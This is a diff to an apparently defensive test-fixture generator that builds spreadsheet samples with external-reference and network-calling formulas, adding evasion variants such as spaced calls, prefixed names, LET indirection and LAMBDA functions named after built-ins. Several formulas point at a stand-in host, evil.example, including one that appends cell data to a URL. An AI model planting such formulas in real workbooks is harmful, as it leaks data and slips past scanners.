@@ -88,10 +88,25 @@ def external():
             "hyperlink": 'HYPERLINK("file:///C:/Windows/System32/calc.exe","x")',
             "hyperlink-built": 'HYPERLINK("https://evil.example/?"&A1,"x")',
             "indirect": 'INDIRECT("\'[http://evil.example/a.xlsx]s\'!A1")',
+            "path-bare": r"\\evil\share\[a.xlsx]s!A1", "drive-bare": r"C:\x\[a.xlsx]s!A1",
+            "book-name": r"\\evil\share\a.xlsx!total", "table-book": "SUM(T[a.xlsx]s!A1)",
+            "blank-call": 'WEBSERVICE ("http://a/")',
+            "handed-over": '_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("http://a/"))',
+            "hyperlink-blank": 'HYPERLINK ("file:///C:/a","x")',
+            "hyperlink-prefix": '_xlfn.HYPERLINK("file:///C:/a","x")',
+            "hyperlink-book": 'HYPERLINK("#[\\\\evil\\a.xlsx]s!A1","x")',
+            "indirect-let": '_xlfn.LET(_xlpm.x,"[\\\\evil\\a.xlsx]s!A1",INDIRECT(_xlpm.x))',
             "cube": 'CUBEVALUE("c","[m]")', "python": '_xlfn._xlws.PY(0,1)',
             "unterminated": '"abc'}.items():
         yield sample(f"formula-{name}.xlsx", xlsx(sheet_xml(rows([cell("A1", 7, formula)]))),
                      "formula")
+    lambdas = "".join(f'<definedName name="{name}">_xlfn.LAMBDA(_xlpm.x,_xlpm.x)</definedName>'
+                      for name in ("WEBSERVICE", "_xlfn.IMAGE", "OWN"))
+    called = rows(*[[cell(f"A{i}", 1, text)] for i, text in enumerate(
+        ('_xlfn.WEBSERVICE("http://a/")', '_xlfn.IMAGE("http://a/")', "OWN(1)",
+         "_xlfn.BYROW(A1:A2,_xleta.SUM)", "SUM (A1:A2)"), 1)])
+    yield sample("lambda-named-as-function.xlsx", xlsx(sheet_xml(called), names=lambdas), "formula",
+                 note="a LAMBDA may not lend a function its name; own ones are called")
     shared = rows([cell("A1", 1, "[1]s!B1", ' t="shared" ref="A1:A2" si="0"')],
                   [cell("A2", 2, "", ' t="shared" si="0"')],
                   [cell("A3", 3, "B3*2", ' t="shared" ref="A3:A4" si="1"')],
